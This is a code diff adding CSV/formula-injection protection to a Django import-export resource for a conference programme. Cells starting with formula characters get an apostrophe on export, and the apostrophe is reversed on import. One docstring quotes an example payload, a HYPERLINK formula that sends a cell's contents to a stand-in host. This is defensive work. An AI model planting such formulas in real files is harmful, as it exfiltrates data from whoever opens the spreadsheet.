@@ -4,6 +4,7 @@ Imports run every row through the model rules (full_clean) and are all or nothin
 admin rolls the whole file back. Ordered people travel as one cell, "First Person; Second Person".
 """
 
+import re
 from datetime import UTC, datetime
 
 from django.db import models
@@ -14,6 +15,29 @@ from .models import Room, Session, SessionSpeaker, Speaker, Workshop
 from .ordered_lists import set_people
 
 LIST_SEPARATOR = ";"
+# A cell a spreadsheet would read as a formula (OWASP "CSV injection"); apostrophes first, so that escaping by
+# one more leading apostrophe can be undone exactly on import. Line feed too: a CSV import reads a carriage
+# return as one, and the apostrophe before it must still come off.
+FORMULA_START = re.compile(r"'*[=+\-@\t\r\n]")
+
+
+def escape_formula(value):
+    """Text a spreadsheet shows as written: a leading apostrophe makes a would-be formula plain text.
+
+    django-import-export's IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT is not enough: it deletes a leading "=", so
+    the text changes ("=1+1" comes out as "1+1"), and leaves "+", "-", "@", tab and carriage return alone,
+    which spreadsheets also start formulas with.
+    """
+    if isinstance(value, str) and FORMULA_START.match(value):
+        return "'" + value
+    return value
+
+
+def unescape_formula(value):
+    """The text escape_formula was given, so an exported file imports back unchanged."""
+    if isinstance(value, str) and value.startswith("'") and FORMULA_START.match(value, 1):
+        return value[1:]
+    return value
 
 
 def split_list(cell):
@@ -68,13 +92,23 @@ class WorkshopRoomWidget(widgets.ForeignKeyWidget):
 
 class ProgrammeResource(resources.ModelResource):
     """Long text columns read like short ones: an empty cell is an empty text. django-import-export gives a
-    TextField its generic widget, which turns the empty cell an XLSX file has into None, and a NOT NULL error."""
+    TextField its generic widget, which turns the empty cell an XLSX file has into None, and a NOT NULL error.
+
+    Every cell is written with escape_formula, whatever the format: titles and names come from speakers, and a
+    title like =HYPERLINK("http://evil.example/?x="&A1) would run in the organizer's spreadsheet."""
 
     @classmethod
     def widget_from_django_field(cls, f, default=widgets.Widget):
         if isinstance(f, models.TextField):
             return widgets.CharWidget
         return super().widget_from_django_field(f, default)
+
+    def export_field(self, field, instance, **kwargs):
+        return escape_formula(super().export_field(field, instance, **kwargs))
+
+    def before_import_row(self, row, **kwargs):
+        for column, value in row.items():
+            row[column] = unescape_formula(value)
 
 
 class SpeakerResource(ProgrammeResource):
